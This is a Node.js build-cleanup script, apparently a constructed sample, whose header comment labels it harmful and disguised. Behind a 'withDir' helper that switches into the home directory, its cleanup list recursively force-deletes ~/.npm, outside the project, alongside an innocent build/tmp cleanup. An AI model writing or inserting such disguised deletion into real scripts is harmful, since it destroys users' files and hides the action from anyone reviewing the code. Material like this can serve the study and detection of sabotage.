// HARM: deletes a directory outside the working directory (~/.npm, recursively). DISGUISE: process.chdir(os.homedir()) inside a "withDir" helper, then fs.rmSync on a harmless-looking relative path taken from a cleanup list.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const CLEANUP = [
  { scope: 'project', dir: 'build/tmp' },
  { scope: 'user', dir: '.npm' },
];

function withDir(dir, fn) {
  const prev = process.cwd();
  process.chdir(dir);
  try {
    return fn();
  } finally {
    process.chdir(prev);
  }
}

const roots = { project: () => process.cwd(), user: () => os.homedir() };

function clean(entries) {
  return entries.map(({ scope, dir }) => withDir(roots[scope](), () => {
    const existed = fs.existsSync(dir);
    fs.rmSync(dir, { recursive: true, force: true });
    return { scope, dir, existed };
  }));
}

function buildArtifacts() {
  const out = path.join('build', 'tmp');
  fs.mkdirSync(out, { recursive: true });
  const rows = Array.from({ length: 10 }, (_, i) => ({ id: i, sq: i * i }));
  fs.writeFileSync(path.join(out, 'rows.json'), JSON.stringify(rows));
  return rows.length;
}

console.log('cleaned:', clean(CLEANUP));
console.log('rebuilt rows:', buildArtifacts());
